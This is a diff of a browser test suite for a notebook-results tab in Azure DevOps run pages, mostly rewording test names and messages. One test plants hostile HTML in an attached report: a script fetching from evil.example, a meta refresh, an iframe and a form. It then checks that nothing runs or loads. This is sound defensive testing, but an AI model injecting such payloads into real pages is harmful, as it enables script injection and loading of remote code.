@@ -14,12 +14,12 @@ import { openChromium } from "./chromium.ts";
 const project = "00000000-0000-4000-8000-000000000001";
 const builder = path.join(import.meta.dirname, "..", "..", "scripts", "build", "results-tab.mjs");
 
-/** What the page of a run tells its tabs, as far as they use it; 1 is in progress, 2 completed. */
+/** A build as the page of a run passes it to its tabs. The status is 1 for in progress, 2 for completed. */
 function pageBuild(id: number, status: 1 | 2 = 2) {
   return { id, buildNumber: `20260302.${id}`, definition: { id: 12 }, project: { id: project }, status };
 }
 
-/** A run of the pipeline with the records that its steps attached. */
+/** Adds a run of the pipeline, with status records that its steps attached. */
 function addRun({ emulator }: TestWorkspace, id: number, records: string[], isCompleted = true): void {
   const { builds } = emulator.azureDevOps;
   builds.start({
@@ -63,13 +63,13 @@ describe("results tab in a page of Azure DevOps", () => {
   afterEach(() => Promise.all(browser?.contexts().map((context) => context.close()) ?? []));
   after(() => browser?.close());
 
-  /** The tab of a run within its page. */
+  /** Opens the tab of a run in its page. */
   async function openTab(workspace: TestWorkspace, build: object, theme?: Record<string, string>) {
     const opened = await openRunPage(browser, { emulator: workspace.emulator, files, build, theme });
     return { ...opened, tab: opened.page.frameLocator("iframe") };
   }
 
-  it("shows the run's records, and how its notebooks did in the runs before", async () => {
+  it("shows the records of the run, and the history of its notebooks", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 7, [JSON.stringify(recordOf())]);
     addRun(workspace, 8, []);
@@ -87,20 +87,20 @@ describe("results tab in a page of Azure DevOps", () => {
     assert.deepEqual(problems, []);
   });
 
-  it("asks the organisation alone, with the page's token", async () => {
+  it("sends requests to the organization only, with the token of the page", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, [JSON.stringify(recordOf())]);
-    const { tab, asked } = await openTab(workspace, pageBuild(9));
+    const { tab, requests } = await openTab(workspace, pageBuild(9));
     await tab.locator("header.page").waitFor();
     const { collectionUrl, accessToken } = workspace.emulator.azureDevOps;
-    assert.ok(asked.length >= 2);
-    for (const { url, authorization } of asked) {
+    assert.ok(requests.length >= 2);
+    for (const { url, authorization } of requests) {
       assert.ok(url.startsWith(`${collectionUrl}/${project}/_apis/build/builds`), url);
       assert.equal(authorization, `Bearer ${accessToken}`);
     }
   });
 
-  it("reads again what is attached when the run goes on", async () => {
+  it("reads the attachments again when the build changes", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, [], false);
     const { tab, change } = await openTab(workspace, pageBuild(9, 1));
@@ -114,7 +114,7 @@ describe("results tab in a page of Azure DevOps", () => {
     await tab.locator("header.page").waitFor();
   });
 
-  it("shows the run's report, with the failing cell and its traceback", async () => {
+  it("shows the report of the run, with the failing cell and its traceback", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, [JSON.stringify(recordOf())]);
     attach(workspace, 9, { type: htmlReportType, name: "report.html", content: htmlReport(weatherRun()) });
@@ -130,7 +130,7 @@ describe("results tab in a page of Azure DevOps", () => {
     );
   });
 
-  it("lets a page that somebody attached as a report show, but not act", async () => {
+  it("shows a page that somebody attached as a report, but runs and loads nothing of it", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, [JSON.stringify(recordOf())]);
     const content = `<p>report</p><script>parent.hostile = true; fetch("https://evil.example/script")</script>
@@ -138,7 +138,7 @@ describe("results tab in a page of Azure DevOps", () => {
       <meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><iframe src="https://evil.example/frame"></iframe>
       <form action="https://evil.example/form"><button>go</button></form>`;
     attach(workspace, 9, { type: htmlReportType, name: "report.html", content });
-    const { page, tab, asked } = await openTab(workspace, pageBuild(9));
+    const { page, tab, requests } = await openTab(workspace, pageBuild(9));
     await tab.locator(".report summary").click();
     const report = tab.frameLocator(".report iframe");
     await report.getByText("report").waitFor();
@@ -146,28 +146,28 @@ describe("results tab in a page of Azure DevOps", () => {
     const frames = await Promise.all(page.frames().map((frame) => frame.evaluate(`"hostile" in window`)));
     assert.deepEqual([...new Set(frames)], [false]);
     assert.deepEqual(
-      asked.filter(({ url }) => url.includes("evil")),
+      requests.filter(({ url }) => url.includes("evil")),
       [],
     );
   });
 
-  it("says which task to add where no record is attached", async () => {
+  it("names the task to add if the run has no record", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, []);
     const { tab } = await openTab(workspace, pageBuild(9));
     assert.match(await tab.locator(".nothing").innerText(), /The task DatabricksRunNotebook attaches one/);
   });
 
-  it("says in one sentence why there is nothing to show where the run is refused", async () => {
+  it("says in one sentence why it shows nothing if the run cannot be read", async () => {
     await using workspace = await startWorkspace();
     const { tab } = await openTab(workspace, pageBuild(9));
     assert.equal(
       await tab.getByRole("alert").locator("li").innerText(),
-      "Reading what is attached to run 20260302.9 failed: Azure DevOps answered 404; the run may have been deleted.",
+      "Could not read the attachments of run 20260302.9: Azure DevOps returned 404; check that the run has not been deleted.",
     );
   });
 
-  it("takes a sign-in page for no answer", async () => {
+  it("does not read a sign-in page as results", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, []);
     await workspace.declareFault({
@@ -178,18 +178,18 @@ describe("results tab in a page of Azure DevOps", () => {
     const { tab } = await openTab(workspace, pageBuild(9));
     assert.match(
       await tab.getByRole("alert").innerText(),
-      /answered 203; sign in again and reload the page\./,
+      /returned 203; sign in again and reload the page\./,
     );
   });
 
-  it("keeps the results where the history cannot be read", async () => {
+  it("shows the results although the history cannot be read", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, [JSON.stringify(recordOf())]);
     await workspace.declareFault({ match: { path: "builds$" }, when: "before", then: { status: 500 } });
     const { tab } = await openTab(workspace, pageBuild(9));
     assert.match(
       await tab.getByRole("alert").innerText(),
-      /^The history is not whole\s+Reading the last runs of the pipeline failed: Azure DevOps answered 500/,
+      /^The history is incomplete\s+Could not read the last runs of the pipeline: Azure DevOps returned 500; reload the page later\./,
     );
     assert.equal(await tab.locator(".result").count(), 6);
   });
